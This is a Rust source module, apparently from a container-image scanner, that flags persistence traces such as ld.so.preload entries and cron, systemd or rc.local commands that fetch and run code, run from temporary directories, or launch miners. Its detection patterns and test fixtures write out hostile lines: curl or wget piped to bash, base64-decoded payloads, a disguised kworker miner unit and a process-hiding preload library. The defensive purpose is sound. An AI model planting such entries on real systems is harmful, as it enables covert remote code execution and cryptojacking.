//! Tampering and persistence traces, for vetting third-party images: `/etc/ld.so.preload`, and
//! cron entries, systemd units and `rc.local` whose commands fetch code into a shell or run it
//! from a world-writable temporary directory.
//!
//! Severity: each of these is how a backdoor or miner survives reboots and is almost never part
//! of a stock image, so they are high; a stratum pool URL or a miner binary in a command is
//! `miner-trace` (critical). Only command positions are judged (a `find /tmp -delete` in a
//! cleanup job is fine; `/tmp/.x/run` as the command is not), and systemd units only through
//! their `Exec*=` lines, to keep stock distribution files clean.

use super::{CheckHit, CheckRule, TextLine, clip, file_name, miner, text_lines};
use crate::detect::registry::pattern::{self, Glob, glob};
use crate::report::Severity;
use regex::Regex;
use std::sync::LazyLock;

/// A non-empty `/etc/ld.so.preload`.
pub(crate) const PRELOAD_RULE: CheckRule = CheckRule {
    id: "ld-so-preload",
    title: "Library preloaded into every process (/etc/ld.so.preload)",
    severity: Severity::High,
    remediation: "Find out which package or build step wrote /etc/ld.so.preload and what the library does; userland rootkits hide through it. Remove it unless a vetted agent needs it, and rebuild from a trusted base if unexplained.",
    suppresses: &[],
};

/// A download piped into a shell.
pub(crate) const DOWNLOAD_RULE: CheckRule = CheckRule {
    id: "autostart-download-exec",
    title: "Scheduled or boot-time command runs downloaded code",
    severity: Severity::High,
    remediation: "Remove the entry unless it is a vetted part of the image; code fetched and run at boot or on a schedule is a classic persistence mechanism. Install software from packages at build time instead.",
    suppresses: &[],
};

/// A command run from a temporary directory.
pub(crate) const TMP_RULE: CheckRule = CheckRule {
    id: "autostart-tmp-exec",
    title: "Scheduled or boot-time command runs from a temporary directory",
    severity: Severity::High,
    remediation: "Remove the entry and the program it runs; legitimate services do not run from /tmp, /var/tmp or /dev/shm. Investigate how it got there.",
    suppresses: &[],
};

/// How a file holds its commands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// `/etc/ld.so.preload`.
    Preload,
    /// A crontab whose lines start with this many schedule fields (plus a user field when
    /// `user` is set); `@reboot`-style lines have one.
    Crontab { fields: usize, user: bool },
    /// A shell script run by cron or at boot: every line is a command.
    Script,
    /// A systemd unit or drop-in: `Exec*=` lines are commands.
    Unit,
}

/// The files this check reads, with how each holds its commands; the first pattern that
/// matches a path decides.
const SCOPED: [(Glob, Kind); 15] = {
    const SYSTEM_CRONTAB: Kind = Kind::Crontab {
        fields: 5,
        user: true,
    };
    [
        (glob("/etc/ld.so.preload"), Kind::Preload),
        (glob("/etc/crontab"), SYSTEM_CRONTAB),
        (glob("/etc/cron.d/*"), SYSTEM_CRONTAB),
        (
            glob("/etc/anacrontab"),
            Kind::Crontab {
                fields: 3,
                user: false,
            },
        ),
        (
            glob("/var/spool/cron/**"),
            Kind::Crontab {
                fields: 5,
                user: false,
            },
        ),
        (
            glob("/etc/cron.{hourly,daily,weekly,monthly}/*"),
            Kind::Script,
        ),
        (glob("/etc/rc.local"), Kind::Script),
        (glob("/etc/rc.d/rc.local"), Kind::Script),
        // Directories holding systemd units (and drop-ins), at any depth.
        (
            glob("/etc/systemd/system/**/*.{service,socket,conf,timer,path}"),
            Kind::Unit,
        ),
        (
            glob("/etc/systemd/user/**/*.{service,socket,conf,timer,path}"),
            Kind::Unit,
        ),
        (
            glob("/lib/systemd/system/**/*.{service,socket,conf,timer,path}"),
            Kind::Unit,
        ),
        (
            glob("/lib/systemd/user/**/*.{service,socket,conf,timer,path}"),
            Kind::Unit,
        ),
        (
            glob("/usr/lib/systemd/system/**/*.{service,socket,conf,timer,path}"),
            Kind::Unit,
        ),
        (
            glob("/usr/lib/systemd/user/**/*.{service,socket,conf,timer,path}"),
            Kind::Unit,
        ),
        (
            glob("/run/systemd/system/**/*.{service,socket,conf,timer,path}"),
            Kind::Unit,
        ),
    ]
};

/// The files this check reads.
pub(crate) const SCOPE: [Glob; SCOPED.len()] = pattern::globs(&SCOPED);

/// The kind of `path`, if it is one this check reads.
fn kind(path: &str) -> Option<Kind> {
    pattern::kind_of(&SCOPED, path)
}

/// Whether `path` is read by this check.
#[cfg(test)]
fn applies(path: &str) -> bool {
    crate::detect::registry::check_for(path) == Some(super::Check::Autostart)
}

/// Findings for one file.
pub(crate) fn check(path: &str, data: &[u8]) -> Vec<CheckHit> {
    let Some(kind) = kind(path) else {
        return Vec::new();
    };
    if kind == Kind::Preload {
        return preload(data);
    }
    let mut hits = Vec::new();
    if miner::is_miner_name(file_name(path)) {
        hits.extend(miner::check(path, data));
    }
    for line in text_lines(data) {
        let Some(command) = command_of(kind, line.text) else {
            continue;
        };
        hits.extend(judge(&line, command));
    }
    hits
}

/// The libraries listed in `ld.so.preload` (whitespace- or colon-separated, `#` comments).
fn preload(data: &[u8]) -> Vec<CheckHit> {
    let mut libs = Vec::new();
    for line in text_lines(data) {
        let text = line.text.split('#').next().unwrap_or("");
        libs.extend(
            text.split(|c: char| c.is_whitespace() || c == ':')
                .filter(|s| !s.is_empty()),
        );
    }
    if libs.is_empty() {
        return Vec::new();
    }
    let evidence = format!("preloads {}", clip(&libs.join(", "), 160));
    vec![CheckHit::file(
        &PRELOAD_RULE,
        PRELOAD_RULE.severity,
        evidence,
        data,
    )]
}

/// The command part of a line, or `None` for comments, blank lines, variable assignments and
/// unit lines that are not `Exec*=`.
fn command_of(kind: Kind, text: &str) -> Option<&str> {
    let t = text.trim();
    if t.is_empty() || t.starts_with('#') || t.starts_with(';') {
        return None;
    }
    match kind {
        Kind::Preload => None,
        Kind::Script => Some(t),
        Kind::Unit => {
            let (key, value) = t.split_once('=')?;
            key.trim().starts_with("Exec").then(|| {
                value
                    .trim()
                    .trim_start_matches(['@', '-', ':', '+', '!', '|'])
            })
        }
        Kind::Crontab { fields, user } => {
            let first = t.split_whitespace().next()?;
            // `NAME=value` environment lines.
            if first.contains('=') && !t.starts_with('*') && !t.starts_with('@') {
                return None;
            }
            let skip = if first.starts_with('@') { 1 } else { fields } + usize::from(user);
            skip_words(t, skip)
        }
    }
}

/// `text` after its first `n` whitespace-separated words.
fn skip_words(text: &str, n: usize) -> Option<&str> {
    let mut rest = text.trim_start();
    for _ in 0..n {
        let end = rest.find(char::is_whitespace)?;
        rest = rest.get(end..)?.trim_start();
    }
    (!rest.is_empty()).then_some(rest)
}

/// Downloads piped or substituted into an interpreter, and decoded payloads piped into a shell.
/// Each has a `tool` group (what produces the code) and a `shell` group (what runs it).
static DOWNLOAD: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)\b(?P<tool>curl|wget|fetch|lwp-download)\b[^|;&\n]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:\S*/)?(?P<shell>sh|bash|dash|zsh|ksh|ash|python[0-9.]*|perl)\b",
        r#"(?i)\b(?P<shell>sh|bash|dash|zsh|ksh|source)\s+(?:-c\s+)?["']?(?:\$\(|<\(|`)\s*(?P<tool>curl|wget)\b"#,
        r"(?i)\b(?P<tool>base64)\s+(?:-d|--decode)\b[^|;&\n]*\|\s*(?:\S*/)?(?P<shell>sh|bash|dash|zsh)\b",
    ]
    .into_iter()
    .filter_map(|r| Regex::new(r).ok())
    .collect()
});

/// The host of the first URL in `text`, without credentials.
fn url_host(text: &str) -> Option<String> {
    let i = text.find("://")?;
    let after = text.get(i + 3..)?;
    let end = after
        .find(|c: char| c == '/' || c == '"' || c == '\'' || c.is_whitespace() || c == '|')
        .unwrap_or(after.len());
    let authority = after.get(..end)?;
    let host = authority.rsplit('@').next().unwrap_or(authority);
    (!host.is_empty()).then(|| clip(host, 80))
}

/// Temporary directories anyone can write to.
const TMP_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Commands that run their first non-option argument as the real command.
const WRAPPERS: &[&str] = &[
    "nohup", "exec", "setsid", "sudo", "env", "nice", "ionice", "then", "do", "else", "!", "time",
    "stdbuf", "chrt", "taskset",
];

/// Interpreters whose first non-option argument is the program run.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "python", "python2", "python3", "perl", "ruby",
    "php", "node", "source", ".",
];

/// The commands run by a shell command line: the first word of each segment, or the script an
/// interpreter runs.
fn commands(line: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for seg in line.split([';', '&', '|', '(', ')', '`', '\n']) {
        let mut words = seg
            .split_whitespace()
            .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '$' || c == '{'));
        for w in words.by_ref() {
            let base = w.rsplit('/').next().unwrap_or(w);
            if w.is_empty()
                || w.starts_with('-')
                || (w.contains('=') && !w.starts_with('/'))
                || WRAPPERS.contains(&base)
                || base.parse::<f64>().is_ok()
            {
                continue;
            }
            out.push(w);
            if !(INTERPRETERS.contains(&base) || base.starts_with("python")) {
                break;
            }
        }
    }
    out
}

/// Findings for one command.
fn judge(line: &TextLine<'_>, command: &str) -> Vec<CheckHit> {
    let mut hits = Vec::new();
    let fp = command.as_bytes();
    for re in DOWNLOAD.iter() {
        if let Some(c) = re.captures(command) {
            let tool = c.name("tool").map_or("", |m| m.as_str());
            let shell = c.name("shell").map_or("", |m| m.as_str());
            let from = url_host(command)
                .map(|h| format!(" from {h}"))
                .unwrap_or_default();
            let evidence = format!(
                "{} output{from} is run by {}",
                clip(tool, 20),
                clip(shell, 20)
            );
            hits.push(CheckHit::at_line(
                &DOWNLOAD_RULE,
                DOWNLOAD_RULE.severity,
                line,
                evidence,
                fp,
            ));
            break;
        }
    }
    let cmds = commands(command);
    if let Some(tmp) = cmds
        .iter()
        .find(|c| TMP_DIRS.iter().any(|d| c.starts_with(d)))
    {
        hits.push(CheckHit::at_line(
            &TMP_RULE,
            TMP_RULE.severity,
            line,
            format!("runs {}", clip(tmp, 100)),
            fp,
        ));
    }
    let pool = miner::stratum_host(command.as_bytes());
    let named = cmds
        .iter()
        .map(|c| c.rsplit('/').next().unwrap_or(c))
        .find(|b| miner::is_miner_name(b));
    if pool.is_some() || named.is_some() {
        let evidence = match (pool, named) {
            (Some(h), _) => format!("command uses stratum pool {h}"),
            (None, Some(b)) => format!("command runs miner `{}`", clip(b, 40)),
            (None, None) => String::new(),
        };
        hits.push(CheckHit::at_line(
            &miner::RULE,
            miner::RULE.severity,
            line,
            evidence,
            fp,
        ));
    }
    hits
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Debian 12's stock /etc/crontab.
    const DEBIAN_CRONTAB: &str = "# /etc/crontab: system-wide crontab
# Unlike any other crontab you don't have to run the `crontab'
# command to install the new version when you edit this file
# and files in /etc/cron.d. These files also have username fields,
# that none of the other crontabs do.

SHELL=/bin/sh
# You can also override PATH, but by default, newer versions inherit it from the environment
#PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

# Example of job definition:
# .---------------- minute (0 - 59)
# |  .------------- hour (0 - 23)
# |  |  .---------- day of month (1 - 31)
# |  |  |  .------- month (1 - 12) OR jan,feb,mar,apr ...
# |  |  |  |  .---- day of week (0 - 6) (Sunday=0 or 7) OR sun,mon,tue,wed,thu,fri,sat
# |  |  |  |  |
# *  *  *  *  * user-name command to be executed
17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }
#
";

    /// Debian 12's /lib/systemd/system/systemd-tmpfiles-clean.service and e2scrub_reap (parts).
    const STOCK_UNITS: &str = "[Unit]
Description=Cleanup of Temporary Directories
Documentation=man:tmpfiles.d(5) man:systemd-tmpfiles(8)
ConditionPathExists=!/etc/initrd-release

[Service]
Type=oneshot
ExecStart=systemd-tmpfiles --clean
SuccessExitStatus=DATAERR
IOSchedulingClass=idle
ExecStart=/sbin/e2scrub_all -A -r
ReadWritePaths=/tmp /var/tmp
";

    /// Debian 12's stock /etc/cron.daily/dpkg.
    const CRON_DAILY_DPKG: &str = "#!/bin/sh

# Skip if systemd is running.
if [ -d /run/systemd/system ]; then
    exit 0
fi

/usr/libexec/dpkg/dpkg-db-backup
";

    #[test]
    fn stock_files_are_clean() {
        assert!(check("/etc/crontab", DEBIAN_CRONTAB.as_bytes()).is_empty());
        assert!(
            check(
                "/lib/systemd/system/systemd-tmpfiles-clean.service",
                STOCK_UNITS.as_bytes()
            )
            .is_empty()
        );
        assert!(check("/etc/cron.daily/dpkg", CRON_DAILY_DPKG.as_bytes()).is_empty());
        let cleanup = "0 3 * * * find /tmp -type f -mtime +7 -delete\n";
        assert!(check("/var/spool/cron/crontabs/root", cleanup.as_bytes()).is_empty());
    }

    #[test]
    fn download_into_a_shell() {
        let cron = "*/5 * * * * root curl -fsSL http://203.0.113.7/s.sh | bash >/dev/null 2>&1\n\
                    @reboot root wget -q -O- https://example.invalid/x | sh\n\
                    0 * * * * root bash -c \"$(curl -s https://example.invalid/i)\"\n\
                    0 * * * * root echo ZWNobyBoaQo= | base64 -d | sh\n";
        let hits = check("/etc/cron.d/sysupdate", cron.as_bytes());
        let got: Vec<(&str, &str, Option<u64>)> = hits
            .iter()
            .map(|h| (h.rule, h.evidence.as_str(), h.line))
            .collect();
        assert_eq!(
            got,
            [
                (
                    "autostart-download-exec",
                    "curl output from 203.0.113.7 is run by bash",
                    Some(1)
                ),
                (
                    "autostart-download-exec",
                    "wget output from example.invalid is run by sh",
                    Some(2)
                ),
                (
                    "autostart-download-exec",
                    "curl output from example.invalid is run by bash",
                    Some(3)
                ),
                (
                    "autostart-download-exec",
                    "base64 output is run by sh",
                    Some(4)
                ),
            ]
        );
    }

    #[test]
    fn commands_from_tmp_and_miners() {
        let unit = "[Service]\nExecStartPre=-/bin/mkdir -p /var/tmp/.cache\nExecStart=/var/tmp/.cache/kworker --url stratum+tcp://pool.example.org:3333\nRestart=always\n";
        let hits = check("/etc/systemd/system/kworker.service", unit.as_bytes());
        let got: Vec<(&str, Severity, &str)> = hits
            .iter()
            .map(|h| (h.rule, h.severity, h.evidence.as_str()))
            .collect();
        assert_eq!(
            got,
            [
                (
                    "autostart-tmp-exec",
                    Severity::High,
                    "runs /var/tmp/.cache/kworker"
                ),
                (
                    "miner-trace",
                    Severity::Critical,
                    "command uses stratum pool pool.example.org:3333"
                ),
            ]
        );
        let rc =
            "#!/bin/sh -e\nnohup sh /dev/shm/.x/run.sh &\ncd /opt/x && ./xmrig -o pool:1\nexit 0\n";
        let hits = check("/etc/rc.local", rc.as_bytes());
        let got: Vec<&str> = hits.iter().map(|h| h.evidence.as_str()).collect();
        assert_eq!(
            got,
            ["runs /dev/shm/.x/run.sh", "command runs miner `xmrig`"]
        );
        let spool = "@reboot /tmp/.ssh/updater\n";
        assert_eq!(
            check("/var/spool/cron/root", spool.as_bytes())[0].evidence,
            "runs /tmp/.ssh/updater"
        );
    }

    #[test]
    fn ld_so_preload() {
        assert!(check("/etc/ld.so.preload", b"").is_empty());
        assert!(check("/etc/ld.so.preload", b"# nothing\n\n").is_empty());
        let hits = check("/etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n");
        assert_eq!(hits[0].rule, "ld-so-preload");
        assert_eq!(hits[0].severity, Severity::High);
        assert_eq!(
            hits[0].evidence,
            "preloads /usr/local/lib/libprocesshider.so"
        );
    }

    #[test]
    fn patterns_compile() {
        assert_eq!(DOWNLOAD.len(), 3);
    }

    #[test]
    fn paths() {
        assert!(applies("/etc/cron.d/php"));
        assert!(applies("/var/spool/cron/crontabs/root"));
        assert!(applies(
            "/etc/systemd/system/multi-user.target.wants/x.service"
        ));
        assert!(applies(
            "/usr/lib/systemd/system/sshd.service.d/override.conf"
        ));
        assert!(!applies("/etc/systemd/system.conf"));
        assert!(!applies("/lib/systemd/system/x.target"));
        assert!(!applies("/etc/cron.d/"));
    }

    #[test]
    fn garbage_never_panics() {
        for d in [&b"ExecStart="[..], b"@", b"* * * * *", b"| | sh", b"\xff"] {
            for p in [
                "/etc/crontab",
                "/etc/rc.local",
                "/etc/systemd/system/a.service",
            ] {
                let _ = check(p, d);
            }
        }
    }
}
